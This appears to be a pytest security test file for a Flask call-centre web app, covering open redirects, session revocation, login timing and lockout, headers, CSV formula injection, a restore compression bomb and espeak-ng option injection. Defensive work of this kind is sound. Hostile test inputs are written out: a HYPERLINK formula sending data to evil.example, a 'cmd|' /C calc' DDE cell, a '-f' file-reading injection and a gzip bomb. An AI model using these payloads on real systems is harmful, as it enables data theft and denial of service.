"""Issue 12, finding 6, tried as an attacker would: the redirect after login, a stolen cookie
after logout or a password change, login timing, locking someone else out, formulas in CSVs,
a compression bomb in a restore, option injection into espeak-ng, and the 500s."""
from __future__ import annotations

import csv
import io
import statistics
import subprocess
import sys
import tarfile
import time
import wave
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient

from appliance.ivr.tts import PromptCache
from appliance.store.errors import ConfigError
from tests.web.conftest import PASSWORD, csrf_of, login
from tests.web import test_campaigns
from tests.web.test_campaigns import BASE, post, text, with_store
from web import accounts

site = test_campaigns.site  # fixtures: a site with a campaign "spring"
campaign = test_campaigns.campaign

ATTACKER = {"REMOTE_ADDR": "192.0.2.66"}
ADMIN_DESK = {"REMOTE_ADDR": "192.0.2.10"}


def try_login(c: FlaskClient, username: str, password: str, environ: dict[str, str] | None = None,
              query: str = "") -> tuple[int, str]:
    resp = c.post(f"/login{query}", data={"username": username, "password": password, "csrf_token": csrf_of(c)},
                  environ_base=environ or {})
    return resp.status_code, resp.headers.get("Location", "") or resp.get_data(as_text=True)


# -- redirect after login ---------------------------------------------------------------------------
@pytest.mark.parametrize("target", ["/%09/evil.example/x", "/\\evil.example/", "/%5Cevil.example/",
                                    "https://evil.example/", "//evil.example/"])
def test_next_never_leaves_the_site(app: Flask, target: str) -> None:
    status, where = try_login(app.test_client(), "admin", PASSWORD, query=f"?next={target}")
    if status == 400:  # a control character: refused with a message
        assert "next:" in where
        return
    assert status == 302
    # What a browser does with the Location: drop tabs/newlines, read "\" as "/".
    seen = where.replace("\t", "").replace("\n", "").replace("\\", "/")
    assert seen.startswith("/") and not seen.startswith("//"), where


@pytest.mark.parametrize("target", ["/%0d%0aSet-Cookie:x=1", "/ok%0a"])
def test_cr_lf_in_next_is_a_400_with_a_message(app: Flask, target: str) -> None:
    c = app.test_client()
    resp = c.get(f"/login?next={target}")
    assert resp.status_code == 400 and "next:" in resp.get_data(as_text=True)


def test_a_path_on_the_site_is_kept(app: Flask) -> None:
    assert try_login(app.test_client(), "admin", PASSWORD, query="?next=/reports/") == (302, "/reports/")


# -- sessions -----------------------------------------------------------------------------------------
def stolen_copy(app: Flask, victim: FlaskClient) -> FlaskClient:
    """A second browser holding a copy of the victim's session cookie."""
    cookie = victim.get_cookie("session")
    assert cookie is not None
    thief = app.test_client()
    thief.set_cookie("session", cookie.value)
    return thief


def test_a_copied_cookie_dies_at_logout(app: Flask, admin: FlaskClient) -> None:
    thief = stolen_copy(app, admin)
    assert thief.get("/").status_code == 200  # the copy works while the session lives
    admin.post("/logout", data={"csrf_token": admin.csrf})  # type: ignore[attr-defined]
    resp = thief.get("/")
    assert resp.status_code == 302 and resp.headers["Location"].startswith("/login")


def test_a_copied_cookie_dies_at_a_password_change(app: Flask, admin: FlaskClient) -> None:
    thief = stolen_copy(app, admin)
    resp = admin.post("/password", data={"current_password": PASSWORD, "new_password": "violet-kettle-harbour",
                                         "new_password_again": "violet-kettle-harbour",
                                         "csrf_token": admin.csrf})  # type: ignore[attr-defined]
    assert resp.status_code == 302
    assert thief.get("/").status_code == 302  # revoked
    assert admin.get("/").status_code == 200  # the browser that changed it stays logged in


def test_a_password_reset_by_an_admin_ends_the_users_sessions(app: Flask, admin: FlaskClient,
                                                              supervisor: FlaskClient) -> None:
    assert supervisor.get("/wallboard/").status_code == 200
    admin.post("/users/super/reset", data={"csrf_token": admin.csrf})  # type: ignore[attr-defined]
    assert supervisor.get("/wallboard/").status_code == 302


# -- login timing and lockout ---------------------------------------------------------------------------
def test_locked_unknown_and_unlocked_users_answer_in_the_same_time(app: Flask) -> None:
    for _ in range(accounts.LOCK_AFTER):
        try_login(app.test_client(), "super", "wrong-wrong-wrong", ATTACKER)

    def timed(username: str) -> float:
        c = app.test_client()
        token = csrf_of(c)
        # "super" from the locked address; the others from fresh ones (the per-address throttle).
        where = ATTACKER if username == "super" else {"REMOTE_ADDR": f"198.51.100.{len(samples[username])}"}
        start = time.perf_counter()
        resp = c.post("/login", data={"username": username, "password": "still-wrong-1", "csrf_token": token},
                      environ_base=where)
        took = time.perf_counter() - start
        assert resp.status_code == 401
        return took

    samples: dict[str, list[float]] = {"super": [], "admin": [], "nobody": []}
    for _ in range(9):  # interleaved, so machine load hits each kind alike
        for name, runs in samples.items():
            runs.append(timed(name))
    medians = {name: statistics.median(runs) for name, runs in samples.items()}
    # scrypt (~40 ms) dominates every path; skipping it (3 ms) is a factor of ten. The bar sits
    # well inside that gap, because a loaded CI worker stretches single samples (seen: 0.55).
    slowest = max(medians.values())
    assert all(m > 0.3 * slowest for m in medians.values()), medians


def test_a_stranger_cannot_lock_the_admin_out(app: Flask) -> None:
    for _ in range(accounts.LOCK_AFTER * 2):
        assert try_login(app.test_client(), "admin", "wrong-wrong-wrong", ATTACKER)[0] == 401
    # Locked for the guessing address, even with the right password...
    assert try_login(app.test_client(), "admin", PASSWORD, ATTACKER)[0] == 401
    # ...but the admin at their own desk logs in.
    assert try_login(app.test_client(), "admin", PASSWORD, ADMIN_DESK)[0] == 302


def test_the_count_starts_again_when_a_lock_expires(app: Flask) -> None:
    from tests.web.conftest import store_of

    s = store_of(app)
    try:
        now = time.time()
        for _ in range(accounts.LOCK_AFTER):
            assert accounts.authenticate(s, "agent1", "wrong-wrong-wrong", now, "192.0.2.9") is None
            accounts.audit(s, now, "agent1", "login.failed", "192.0.2.9")
        assert accounts.locked_for(s, "agent1", "192.0.2.9", now)
        later = now + accounts.LOCK_SECONDS + 1
        assert not accounts.locked_for(s, "agent1", "192.0.2.9", later)
        # One more failure after the lock expired does not lock again at once.
        assert accounts.authenticate(s, "agent1", "wrong-wrong-wrong", later, "192.0.2.9") is None
        accounts.audit(s, later, "agent1", "login.failed", "192.0.2.9")
        assert not accounts.locked_for(s, "agent1", "192.0.2.9", later)
        user = accounts.authenticate(s, "agent1", PASSWORD, later, "192.0.2.9")
        assert user is not None
        s.execute("UPDATE web_users SET failed_logins = failed_logins")  # the row is still there
        assert accounts.get_user(s, "agent1").failed_logins == 0  # type: ignore[union-attr]
    finally:
        s.close()


# -- headers --------------------------------------------------------------------------------------------
def test_security_headers_on_every_page(app: Flask, admin: FlaskClient) -> None:
    for resp in (app.test_client().get("/login"), admin.get("/"), admin.get("/static/plateau.css")):
        h = resp.headers
        assert "frame-ancestors 'none'" in h["Content-Security-Policy"]
        assert "script-src 'self'" in h["Content-Security-Policy"]
        assert h["X-Frame-Options"] == "DENY" and h["X-Content-Type-Options"] == "nosniff"
        assert h["Referrer-Policy"] == "same-origin"
        assert "Strict-Transport-Security" not in h  # plain HTTP: RFC 6797 §7.2


def test_hsts_and_secure_cookie_over_https(data_dir: Path, app: Flask) -> None:
    from web import create_app

    tls_app = create_app(data_dir, testing=True, secret_key="test-secret", tls=True)
    resp = tls_app.test_client().get("/login", base_url="https://localhost")
    assert "max-age=" in resp.headers["Strict-Transport-Security"]
    assert "Secure" in resp.headers["Set-Cookie"]


# -- passwords ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("weak", ["aaaaaaaaaa", "1234567890", "qwertyuiop", "Password123", "admin-admin-admin"])
def test_weak_passwords_are_refused(weak: str) -> None:
    with pytest.raises(ConfigError, match="^password: "):
        accounts.check_password_rules(weak, "admin")


def test_good_passwords_pass() -> None:
    for good in (PASSWORD, "violet-kettle-harbour", accounts.one_time_password()):
        accounts.check_password_rules(good, "admin")


# -- the 500s -------------------------------------------------------------------------------------------
@pytest.mark.parametrize("query", ["start=0001-01-01&end=0001-01-02", "start=9999-12-30&end=9999-12-31",
                                   "start=9999-12-31"])
def test_extreme_years_in_reports_are_a_400(admin: FlaskClient, query: str) -> None:
    for path in ("/reports/", "/reports/kpis.csv", "/reports/calls", "/reports/calls.csv"):
        resp = admin.get(f"{path}?{query}")
        assert resp.status_code in (200, 400), (path, resp.status_code)
        if path.endswith("/"):
            assert resp.status_code == 400 and "a date between" in resp.get_data(as_text=True)


@pytest.mark.parametrize("offset", ["100000000000000000000000", "-1", "1e5"])
def test_a_huge_audit_offset_is_a_400(admin: FlaskClient, offset: str) -> None:
    resp = admin.get(f"/users/audit?offset={offset}")
    assert resp.status_code == 400 and "offset:" in resp.get_data(as_text=True)


# -- CSV formulas ---------------------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_problems_csv_neutralises_formulas(campaign: Flask, admin: FlaskClient) -> None:
    from appliance.store import dialer as dstore

    body = f"number;name\n{FORMULA};x\n+33612345678;ok\n@SUM(1+1);y\n".encode()
    resp = post(admin, f"{BASE}/spring/import", {"file": (io.BytesIO(body), "p.csv")},
                content_type="multipart/form-data")
    assert resp.status_code == 302, text(resp)
    resp = post(admin, resp.headers["Location"], {"list_name": "evil", "number_col": "0", "as_1": ""})
    assert resp.status_code == 302, text(resp)
    [lst] = with_store(campaign, lambda s: dstore.lead_lists(s, "spring"))
    out = admin.get(f"{BASE}/spring/lists/{lst['id']}/problems.csv").get_data(as_text=True).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert cells, out
    assert not [c for c in cells if c[:1] in ("=", "@")], cells
    assert any(c == "'" + FORMULA for c in cells), cells


def test_report_csv_keeps_phone_numbers_and_quotes_formulas() -> None:
    from web.csv_export import csv_cell

    assert csv_cell("+4930123456") == "+4930123456" and csv_cell("-12.5") == "-12.5"
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("+1+cmd|' /C calc'!A0") == "'+1+cmd|' /C calc'!A0"
    assert csv_cell("\t=1") == "'\t=1" and csv_cell(42) == 42


# -- restore bomb ---------------------------------------------------------------------------------------
BOMB = """
import io, resource, signal, sys, tarfile
from pathlib import Path
from appliance.system.backup import BackupError, check_backup
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG instead
resource.setrlimit(resource.RLIMIT_FSIZE, (8 << 20, 8 << 20))
try:
    check_backup(open(sys.argv[1], "rb"), None, Path(sys.argv[2]))
except BackupError as exc:
    print("REFUSED", exc.errors)
"""


class _Zeros(io.RawIOBase):
    def __init__(self, size: int) -> None:
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, b: bytearray) -> int:  # type: ignore[override]
        n = min(len(b), self.left)
        b[:n] = bytes(n)
        self.left -= n
        return n


def test_a_huge_database_member_is_refused_before_a_byte_is_written(tmp_path: Path) -> None:
    size = 600 << 20
    archive = tmp_path / "small.tar.gz"
    with tarfile.open(archive, "w:gz", compresslevel=1) as tar:
        info = tarfile.TarInfo("database.sqlite")
        info.size = size
        tar.addfile(info, io.BufferedReader(_Zeros(size), 1 << 20))
    assert archive.stat().st_size < 8 << 20  # a small upload
    data = tmp_path / "data"
    data.mkdir()
    # The checker runs with a file size limit of 8 MiB: spooling the member would hit it.
    out = subprocess.run([sys.executable, "-c", BOMB, str(archive), str(data)], capture_output=True, text=True,
                         timeout=120, cwd=Path(__file__).resolve().parents[2])
    assert "REFUSED" in out.stdout, out.stdout + out.stderr
    assert "File too large" not in out.stdout and "database.sqlite" in out.stdout, out.stdout
    assert list(data.iterdir()) == []


# -- espeak-ng option injection -------------------------------------------------------------------------
def test_tts_text_that_looks_like_an_option_is_spoken(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret is " + "one two three four five six seven eight nine ten " * 20)
    cache = PromptCache(tmp_path / "tts")
    spoken = cache.path_for(f"-f{secret}")
    with wave.open(str(spoken), "rb") as w:
        seconds = w.getnframes() / w.getframerate()
    # Read as "-f <file>" it would speak the file, over a minute; spoken, the text is a few seconds.
    assert 0.5 < seconds < 15, seconds
    # A path that does not exist is spoken too (no "cannot read" error telling what exists).
    cache.path_for("-f/no/such/file")


def test_login_helper_still_works(app: Flask) -> None:
    assert login(app.test_client(), "admin").get("/").status_code == 200
